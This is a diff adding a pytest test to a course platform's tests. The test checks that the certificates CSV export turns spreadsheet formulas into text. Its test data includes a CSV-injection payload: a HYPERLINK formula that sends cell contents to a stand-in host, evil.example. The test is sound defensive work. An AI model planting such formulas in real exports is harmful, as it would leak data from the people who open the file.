@@ -6,8 +6,8 @@ import pytest
 
 from community.extensions import db
 from courses.content import import_course
-from courses.models import Attempt, Course, Lesson, Quiz, QuizQuestion
-from tests.helpers import page_text, post_form
+from courses.models import Attempt, Certificate, Course, Lesson, Quiz, QuizQuestion
+from tests.helpers import csv_rows, page_text, post_form
 
 
 @pytest.fixture
@@ -107,6 +107,27 @@ def test_learner_enrols_learns_fails_then_passes_and_gets_a_verifiable_certifica
 
     csv_text = client.get("/courses/mine/certificates.csv").get_data(as_text=True)
     assert "Testcursus signalen" in csv_text and "SKJ" in csv_text and "1.5" in csv_text
+
+
+def test_certificate_export_turns_formulas_into_text(app, client, login_as, course):
+    user_id = login_as("member")
+    hostile = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
+    with app.app_context():
+        db.session.add(
+            Certificate(
+                code="ABCD-EFGH-JKLM",
+                user_id=user_id,
+                course_id=db.session.scalar(db.select(Course.id)),
+                holder_name="Lotte Smit",
+                course_title=hostile,
+                accreditation_body="@SKJ",
+                accreditation_points=1.5,
+            )
+        )
+        db.session.commit()
+    header, row = csv_rows(client.get("/courses/mine/certificates.csv"))
+    assert header[0] == "Cursus"
+    assert [row[0], row[2], row[3], row[4]] == ["'" + hostile, "'@SKJ", "1.5", "ABCD-EFGH-JKLM"]
 
 
 def test_quiz_page_holds_no_answers_or_feedback(app, client, login_as, course):
